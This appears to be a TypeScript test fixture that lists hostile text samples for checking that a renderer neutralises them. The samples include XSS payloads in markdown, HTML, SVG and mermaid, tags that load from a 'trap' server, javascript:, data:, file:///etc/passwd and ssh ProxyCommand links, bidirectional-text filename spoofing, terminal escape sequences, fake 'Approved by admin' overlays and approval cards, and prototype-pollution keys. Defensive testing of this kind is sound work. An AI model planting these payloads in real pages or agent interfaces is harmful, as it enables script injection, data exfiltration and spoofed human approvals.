/**
 * What hostile agents, repositories and their files have put into text so that a page would run, load, hide or pretend
 * something; each named by what it tries. `trap` is the address of a server that must never be asked.
 */
export function hostileTexts(trap: string): readonly (readonly [name: string, text: string])[] {
  const run = 'window.trapped=1'
  return [
    ['an image', `![x](${trap}/image?q=SECRET)`],
    ['an image by reference', `![x][ref]\n\n[ref]: ${trap}/reference "t"`],
    ['an image in a link', `[![x](${trap}/inner)](${trap}/outer)`],
    ['an image in a table', `|a|\n|-|\n|![x](${trap}/cell)|`],
    ['an image element', `<img src="${trap}/element" srcset="${trap}/srcset 1x" onerror="${run}">`],
    ['a broken image', `<img src=x onerror=${run}>`],
    ['a script', `<script>${run}</script><script src="${trap}/script.js"></script>`],
    ['a script in a block of HTML', `<div>\n<script>${run}</script>\n</div>`],
    ['a drawing that runs', `<svg onload="${run}"><script>${run}</script><image href="${trap}/svg"/></svg>`],
    [
      'formulas',
      `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
    ],
    ['a frame', `<iframe src="${trap}/frame" srcdoc="<script>parent.trapped=1</script>"></iframe>`],
    ['an object', `<object data="${trap}/object"></object><embed src="${trap}/embed">`],
    ['a base', `<base href="${trap}/base/">`],
    ['a refresh', `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`],
    ['a preload', `<link rel="preload" as="image" href="${trap}/preload"><link rel="stylesheet" href="${trap}/css">`],
    ['a style', `<style>@import url(${trap}/import); body { background: url(${trap}/style) }</style>`],
    ['an overlay', `<div style="position:fixed;inset:0;z-index:9999;background:red">Approved by admin</div>`],
    ['a form', `<form action="${trap}/form"><input autofocus onfocus="${run}"><button>Allow</button></form>`],
    ['media', `<video poster="${trap}/poster" src="${trap}/video"></video><audio src="${trap}/audio"></audio>`],
    ['open details', `<details open ontoggle="${run}"><summary>x</summary></details>`],
    ['a link that runs', `[click](javascript:${run}) <a href="javascript:${run}">click</a> <javascript:${run}>`],
    [
      'a link that runs, written oddly',
      `[click](&#106;avascript:${run}) [click](java\tscript:${run}) [x](<jAvAsCrIpT:${run}>)`,
    ],
    ['a link of data', `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cudHJhcHBlZD0xPC9zY3JpcHQ+)`],
    ['a link to a program', '[x](file:///etc/passwd) [x](vscode://file/x) [x](ssh://-oProxyCommand=x) [x](vbscript:x)'],
    ['a link that lies', `[https://good.example](${trap}/lie)`],
    ['a definition that runs', `[x][j]\n\n[j]: javascript:${run}`],
    [
      'a diagram',
      `\`\`\`mermaid\ngraph TD; A["<img src=${trap}/mermaid onerror=${run}>"]; click A "javascript:${run}"\n\`\`\``,
    ],
    ['code that ends its block', `\`\`\`html\n</code></pre><script>${run}</script><img src="${trap}/code">\n\`\`\``],
    ['a language that is none', `\`\`\`"><img/src=${trap}/lang/onerror=${run}>\nx\n\`\`\``],
    ['a turn of the direction', 'safe \u202egpj.exe\u202c \u2066hidden\u2069 end'],
    ['marks in piles', `before ${'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(12)} after`],
    [
      'commands to a terminal',
      '\u001b[8mhidden\u001b[0m \u001b]52;c;SEVMTE8=\u0007 \u001b]8;;http://x\u0007x\u001b]8;;\u0007 \u009b31m \u001bc',
    ],
    ['a notice of the server', '◇ Approvals that nobody answers are denied after a day.'],
    ['a card', '✓ Allowed by You\n\n**Needs you** · runs exactly this · 23:41 left'],
    ['names of the prototype', '[__proto__] [constructor][hasOwnProperty] __proto__'],
    ['a very long word', 'a'.repeat(3_000)],
  ]
}
